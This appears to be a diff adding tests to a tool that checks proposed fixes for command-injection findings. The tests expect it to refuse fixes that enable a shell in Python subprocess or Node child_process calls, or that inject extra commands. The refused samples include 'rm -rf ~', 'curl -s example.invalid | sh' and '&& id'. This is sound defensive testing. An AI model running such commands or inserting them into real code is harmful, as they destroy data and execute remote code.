@@ -81,3 +81,89 @@ describe('JavaScript: the Function constructor through a key that is not a liter
     expect(result.refusal).toBe('name_outside_the_question');
   });
 });
+
+/** A command-injection finding on line 4, inside `archive`, whose replaced line starts a process without a shell. */
+const PY_ARCHIVE = 'import subprocess\n\ndef archive(folder, name):\n    subprocess.run(["tar", "czf", name, folder])\n    return name\n';
+/** The same finding where the replaced line already runs a shell. */
+const PY_ARCHIVE_SHELL = 'import subprocess\n\ndef archive(folder, name):\n    subprocess.run("tar czf " + name, shell=True)\n    return name\n';
+const JS_ARCHIVE = "const cp = require('node:child_process');\nfunction archive(folder, name) {\n  cp.spawn('tar', ['czf', name, folder]);\n  return name;\n}\n";
+const JS_ARCHIVE_SHELL = "const cp = require('node:child_process');\nfunction archive(folder, name) {\n  cp.spawn('tar czf ' + name, { shell: true });\n  return name;\n}\n";
+
+describe('a fix never turns a shell on', () => {
+  itPython.each([
+    ['shell=True', '    subprocess.run("tar czf " + name + " " + folder, shell=True)\n', 'subprocess.run'],
+    ['Popen with an f-string and shell=True', '    subprocess.Popen(f"tar czf {name} {folder}", shell=True)\n', 'subprocess.Popen'],
+    ['a variable as the switch', '    subprocess.run(["tar", "czf", name, folder], shell=name)\n', 'subprocess.run'],
+    ['shell=1', '    subprocess.run(["tar", "czf", name, folder], shell=1)\n', 'subprocess.run'],
+    ['the switch splatted from a dictionary', '    subprocess.run("tar czf " + name, **{"shell": True})\n', 'subprocess.run'],
+  ])('Python: refuses %s', async (_name, replacement, callee) => {
+    const result = await verdict('archive.py', PY_ARCHIVE, 'archive', 4, replacement);
+    expect(result.refusal).toBe('name_outside_the_question');
+    expect(result.detail).toContain(`it turns on a shell for ${callee}`);
+  });
+
+  it.each([
+    ['an options object', "  cp.spawn('tar', ['czf', name, folder], { shell: true });\n", 'cp.spawn'],
+    ["shell: '/bin/sh'", "  cp.execFileSync('tar', ['czf', name, folder], { shell: '/bin/sh' });\n", 'cp.execFileSync'],
+    ['a variable as the switch', "  cp.spawn('tar', ['czf', name, folder], { cwd: folder, shell: name });\n", 'cp.spawn'],
+    ['a quoted key', "  cp.spawn('tar czf ' + name, { 'shell': true });\n", 'cp.spawn'],
+    ['a computed key, which could be shell', "  cp.spawn('tar czf ' + name, { ['sh' + 'ell']: 1 });\n", 'cp.spawn'],
+  ])('JavaScript: refuses %s', async (_name, replacement, callee) => {
+    const result = await verdict('archive.js', JS_ARCHIVE, 'archive', 3, replacement);
+    expect(result.refusal).toBe('name_outside_the_question');
+    expect(result.detail).toContain(`it turns on a shell for ${callee}`);
+  });
+
+  itPython('Python: accepts shell=False, a shell turned off, and a shell the replaced line already ran', async () => {
+    const off = await verdict('archive.py', PY_ARCHIVE, 'archive', 4, '    subprocess.run(["tar", "czf", "--", name, folder], shell=False)\n');
+    expect(off.refusal).toBeNull();
+    const turnedOff = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run(["tar", "czf", name])\n');
+    expect(turnedOff.refusal).toBeNull();
+    const kept = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run("tar czf " + name.strip(), shell=True)\n');
+    expect(kept.refusal).toBeNull();
+  });
+
+  it('JavaScript: accepts shell: false, a shell turned off, and a shell the replaced line already ran', async () => {
+    expect((await verdict('archive.js', JS_ARCHIVE, 'archive', 3, "  cp.spawn('tar', ['czf', '--', name, folder], { shell: false });\n")).refusal).toBeNull();
+    expect((await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, "  cp.spawn('tar', ['czf', name]);\n")).refusal).toBeNull();
+    expect((await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, "  cp.spawn('tar czf ' + JSON.stringify(name), { shell: true });\n")).refusal).toBeNull();
+  });
+});
+
+describe('a shell kept on is given no other literal command', () => {
+  itPython.each([
+    ['a command appended', '    subprocess.run("tar czf " + name + "; rm -rf ~", shell=True)\n', '; rm -rf ~'],
+    ['another command', '    subprocess.run("curl -s example.invalid | sh", shell=True)\n', 'curl'],
+    ['a command in an f-string', '    subprocess.run(f"tar czf {name} && id", shell=True)\n', ' && id'],
+    ['a command passed as args=', '    subprocess.run(args="id", shell=True)\n', 'id'],
+  ])('Python: refuses %s', async (_name, replacement, literal) => {
+    const result = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, replacement);
+    expect(result.refusal).toBe('name_outside_the_question');
+    expect(result.detail).toContain('it gives the shell of subprocess.run');
+    expect(result.detail).toContain(literal);
+  });
+
+  it.each([
+    ['a command appended', "  cp.spawn('tar czf ' + name + ' && id', { shell: true });\n"],
+    ['a command in a template', '  cp.spawn(`tar czf ${name}; id`, { shell: true });\n'],
+    ['an escape spelling the same command', "  cp.spawn('tar czf ' + name + '\\x3b id', { shell: true });\n"],
+  ])('JavaScript: refuses %s', async (_name, replacement) => {
+    const result = await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, replacement);
+    expect(result.refusal).toBe('name_outside_the_question');
+    expect(result.detail).toContain('it gives the shell of cp.spawn');
+  });
+
+  it('JavaScript: accepts the same literal command with its data quoted, in a template, or with other options', async () => {
+    for (const replacement of [
+      "  cp.spawn('tar czf ' + JSON.stringify(name), { shell: true, cwd: '/tmp', timeout: 5000 });\n",
+      '  cp.spawn(`tar czf ${JSON.stringify(name)}`, { shell: true });\n',
+    ]) {
+      expect((await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, replacement)).refusal).toBeNull();
+    }
+  });
+
+  itPython('Python: accepts the same literal command with its data changed, in an f-string', async () => {
+    const result = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run(f"tar czf {name.strip()}", shell=True)\n');
+    expect(result.refusal).toBeNull();
+  });
+});
